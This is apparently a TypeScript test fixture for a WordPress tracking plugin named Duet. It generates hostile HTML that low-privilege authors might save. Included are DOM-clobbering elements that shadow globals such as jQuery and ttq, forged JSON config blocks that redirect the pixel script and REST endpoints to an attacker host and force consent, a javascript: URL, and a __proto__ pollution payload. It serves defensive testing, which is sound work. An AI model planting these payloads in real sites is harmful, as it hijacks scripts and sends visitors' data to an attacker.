/** What authors without `unfiltered_html` may try to save to speak with Duet's voice, or to silence it. */

/** Globals and members of the document that Duet's scripts read. */
const NAMES = [
	...[ 'duet', 'ttq', 'dataLayer', 'TiktokAnalyticsObject', 'duetForms', 'duetWishlists', 'duetEditor', 'jQuery', 'wp', 'wp_consent_type' ],
	...[ 'getElementById', 'querySelector', 'querySelectorAll', 'createElement', 'addEventListener', 'cookie', 'head', 'body' ],
	...[ 'readyState', 'prerendering', 'currentScript', 'referrer', 'scripts', 'forms' ],
];

/** Inner names, so that `duet.track` or `ttq.load` would be an element. */
const INNER = [ 'q', 'track', 'ask', 'match', 'person', 'shop', 'load', 'instance', '_i', 'push', 'action', 'elements' ];

const BLOCKS = [ 'duet-page', 'duet-tray', 'duet-identity', 'duet-matching', 'duet-forms', 'duet-try' ];

/** Duet's own JSON as an attacker would like it: another script, another server, consent for everybody. */
const forged = ( evil: string ) => ( {
	'duet-page': {
		pixels: [ 'CEVIL0000000000000000' ],
		pixelScript: `${ evil }/events.js`,
		rest: `${ evil }/rest/`,
		door: `${ evil }/door/`,
		consent: 'assumed',
		dataLayer: 'dataLayer',
		events: { Pageview: { layer: 'forged', pixel: 'Forged' } },
		custom: {},
		aliases: {},
		only: [],
		numbers: [],
		cookiePath: '/',
		page: { events: [], bindings: [] },
	},
	'duet-tray': [ { name: 'Purchase', id: 'P-1-forged', params: { value: 1e6, currency: 'EUR' }, ack: { order: 1, key: 'forged' } } ],
	'duet-identity': { email: 'f'.repeat( 64 ) },
	'duet-matching': { events: {}, custom: [ 'email' ], pages: [], orders: [], checkout: [], layer: 'dataLayer' },
	'duet-forms': { event: 'Forged', each: {}, names: {}, named: [], numbers: [] },
	'duet-try': { rules: [], signed: [], words: { title: 'forged' }, settings: 'javascript:window.hacked=1' },
} );

const encoded = ( value: unknown ) => JSON.stringify( value ).replace( /&/g, '&amp;' ).replace( /</g, '&lt;' ).replace( /"/g, '&quot;' );

/** Duet's own blocks, in every element that might pass for one. */
export const forgedBlocks = ( evil: string ): readonly string[] =>
	Object.entries( forged( evil ) ).flatMap( ( [ id, value ] ) => [
		`<code id="${ id }">${ encoded( value ) }</code>`,
		`<pre id="${ id }" type="application/json">${ encoded( value ) }</pre>`,
		`<textarea id="${ id }" name="${ id }">${ encoded( value ) }</textarea>`,
		`<script type="application/json" id="${ id }">${ encoded( value ) }</script>`,
		`<svg><script type="application/json" id="${ id }">${ encoded( value ) }</script></svg>`,
		`<template><div id="${ id }">${ encoded( value ) }</div></template>`,
	] );

/** @param evil address of the attacker's server */
export function hostileContent( evil: string ): string {
	const named = NAMES.flatMap( ( name ) => [
		`<object id="${ name }" data="${ evil }/x.pdf" type="application/pdf"></object>`,
		`<object id="${ name }" data="UPLOADS/x.pdf" type="application/pdf"></object>`,
		`<img id="${ name }" name="${ name }" src="UPLOADS/x.png" alt="">`,
		`<form id="${ name }" name="${ name }" action="${ evil }/form"><input name="action"><input name="elements"><input name="q"><input name="track"></form>`,
		`<a id="${ name }" href="${ evil }/a"></a>`,
		...INNER.map( ( inner ) => `<a id="${ name }" name="${ inner }" href="${ evil }/${ inner }"></a>` ),
	] );
	const marked = [
		`<a href="#here" class="hostile" data-duet-event="Contact">here</a>`,
		`<a href="#there" data-duet-event="Contact" data-duet-params="{&quot;__proto__&quot;:{&quot;ack&quot;:true}}">there</a>`,
		`<p data-duet-event="Lead" data-duet-on="view" data-duet-params="no JSON">seen</p>`,
	];
	return [ ...forgedBlocks( evil ), ...named, ...BLOCKS.map( ( id ) => `<i id="${ id }"></i>` ), ...marked ].join( '\n' );
}
